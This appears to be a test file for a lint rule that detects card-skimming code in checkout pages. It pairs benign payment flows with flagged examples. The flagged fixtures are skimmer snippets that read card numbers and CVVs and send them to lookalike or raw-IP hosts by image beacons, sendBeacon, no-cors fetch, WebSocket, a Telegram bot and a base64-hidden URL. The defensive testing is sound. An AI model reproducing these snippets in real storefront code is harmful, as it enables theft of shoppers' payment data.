import { rule } from "../../../src/rules/payments/skimmer-pattern/rule.ts";
import { testRule } from "../../harness/rule-tester.ts";

testRule(rule, {
  valid: [
    {
      name: "hosted fields of a provider",
      code: `import { loadStripe } from "@stripe/stripe-js";
const card = elements.create("cardNumber");
const { token } = await stripe.createToken(card);
await fetch("/api/pay", { method: "POST", body: JSON.stringify({ token: token.id }) });`,
    },
    {
      name: "a provider's own interface",
      code: `await axios.post("https://api.stripe.com/v1/tokens", { card: { number: cardNumber, cvc } });
await fetch("https://api.pagar.me/core/v5/tokens", { method: "POST", body: JSON.stringify({ card: { number: cardNumber, cvv } }) });
await fetch("https://tntabc.sandbox.verygoodproxy.com/post", { method: "POST", body: JSON.stringify({ cvv }) });`,
    },
    {
      name: "the shop's own server",
      code: `await fetch("/api/pay", { method: "POST", body: JSON.stringify({ cardNumber, cvv }) });
await axios.post(process.env.API_URL + "/pay", { cardNumber, cvv });
await axios.post("http://localhost:5000/pay", { cardNumber, cvv });
await axios.post(\`\${API}/pay\`, { cardNumber, cvv });`,
    },
    {
      name: "statistics without cards",
      code: `navigator.sendBeacon("https://stats.shop-analytics.com/e", JSON.stringify({ page: location.pathname }));
new Image().src = "https://www.facebook.com/tr?id=1&ev=Purchase&cd=" + total;`,
    },
    {
      name: "the last four digits",
      code: `navigator.sendBeacon("https://stats.corner.com/e", cardNumber.slice(-4));
navigator.sendBeacon("https://stats.corner.com/e", JSON.stringify({ filled: cvv.length }));`,
    },
    {
      name: "gift cards",
      code: `const code = document.querySelector("#gift-card-number").value;
navigator.sendBeacon("https://gifts.corner.com/e", code);`,
    },
    {
      name: "other fields that are listened to",
      code: `document.querySelector("#postcode").addEventListener("change", (e) => {
  navigator.sendBeacon("https://stats.shop-metrics.com/", e.target.value);
});
document.querySelector("#cc-number").addEventListener("change", (e) => show(e.target.value.slice(-4)));
document.querySelector("#cc-number").addEventListener("focus", () => {
  navigator.sendBeacon("https://stats.shop-metrics.com/", event.value);
});`,
      path: "public/js/stats.js",
    },
    {
      name: "a contact form",
      code: `const message = document.querySelector("#message").value;
await fetch("https://formspree.io/f/abc", { method: "POST", body: JSON.stringify({ message }) });
await fetch("https://api.telegram.org/bot1/sendMessage", { method: "POST", body: JSON.stringify({ text: order.id }) });`,
    },
    {
      name: "a picture of the card's brand",
      code: `image.src = "https://img.corner.com/" + brand + ".svg";
const logo = new Image(); logo.src = "https://img.corner.com/cards/visa.svg";`,
    },
  ],
  invalid: [
    {
      name: "the address of a picture",
      code: `form.addEventListener("submit", () => {
  const n = document.querySelector("[name=cardnumber]").value;
  const c = document.getElementById("cvv").value;
  new Image().src = "https://cdn-statistics.com/p.gif?d=" + btoa(n + "|" + c);
});`,
      findings: [
        {
          at: `new Image().src = "https://cdn-statistics.com/p.gif?d=" + btoa(n + "|" + c)`,
          level: "error",
        },
      ],
    },
    {
      name: "what somebody types, as it is typed",
      code: `document.querySelector("input[name=card-number]").addEventListener("change", (e) => {
  new Image().src = "https://stats.shop-metrics.com/?n=" + btoa(e.target.value);
});
$("#cvv").on("keyup", function () { navigator.sendBeacon("https://stats.shop-metrics.com/", this.value); });
document.querySelectorAll("input").forEach((field) =>
  field.addEventListener("blur", (e) => fetch("https://stats.shop-metrics.com/", { mode: "no-cors", body: e.currentTarget.value })),
);`,
      path: "public/js/stats.js",
      findings: [
        { at: 'new Image().src = "https://stats.shop-metrics.com/?n=" + btoa(e.target.value)' },
        { at: 'navigator.sendBeacon("https://stats.shop-metrics.com/", this.value)' },
        {
          at: 'fetch("https://stats.shop-metrics.com/", { mode: "no-cors", body: e.currentTarget.value })',
          message: "All fields",
        },
      ],
    },
    {
      name: "a beacon",
      path: "src/checkout.tsx",
      code: `export function Pay() {
  const [cardNumber, setCardNumber] = useState("");
  const submit = () => navigator.sendBeacon("https://metrics-cdn.net/collect", JSON.stringify({ cardNumber }));
}`,
      findings: [
        {
          at: `navigator.sendBeacon("https://metrics-cdn.net/collect", JSON.stringify({ cardNumber }))`,
        },
      ],
    },
    {
      name: "a chat, from the server",
      code: `const axios = require("axios");
app.post("/pay", async (req, res) => {
  const { cvv } = req.body;
  const text = \`\${req.body.cardNumber} \${cvv}\`;
  await axios.post("https://api.telegram.org/bot123/sendMessage", { chat_id: 1, text });
});`,
      findings: [
        { at: `axios.post("https://api.telegram.org/bot123/sendMessage", { chat_id: 1, text })` },
      ],
    },
    {
      name: "all fields to a hidden address",
      code: `const data = {};
document.querySelectorAll("input, select").forEach((field) => { data[field.name] = field.value; });
fetch(atob("aHR0cHM6Ly94Lnl6Lw=="), { method: "POST", body: JSON.stringify(data) });`,
      findings: [
        {
          at: `fetch(atob("aHR0cHM6Ly94Lnl6Lw=="), { method: "POST", body: JSON.stringify(data) })`,
        },
      ],
    },
    {
      name: "XMLHttpRequest to an address of numbers",
      code: `var x = new XMLHttpRequest();
x.open("POST", "http://185.22.10.4/g.php");
x.send("n=" + $("#card-number").val() + "&c=" + $("#cvc").val());`,
      findings: [{ at: `x.send("n=" + $("#card-number").val() + "&c=" + $("#cvc").val())` }],
    },
    {
      name: "a socket, and answers that nobody may see",
      code: `const socket = new WebSocket("wss://live-assist.io/ws");
document.getElementById("cc-number").addEventListener("input", () => {
  const typed = document.getElementById("cc-number").value;
  socket.send(typed);
  fetch("https://static-jquery.com/x", { method: "POST", mode: "no-cors", body: typed });
});`,
      findings: [
        { at: `socket.send(typed)` },
        {
          at: `fetch("https://static-jquery.com/x", { method: "POST", mode: "no-cors", body: typed })`,
        },
      ],
    },
    {
      name: "a host that is not known",
      code: `await axios.post("https://corner-backend.onrender.com/api/charge", { cardNumber, cvv });`,
      findings: [
        {
          at: `axios.post("https://corner-backend.onrender.com/api/charge", { cardNumber, cvv })`,
          level: "warning",
          message: "no payment provider that is known",
        },
      ],
    },
  ],
});
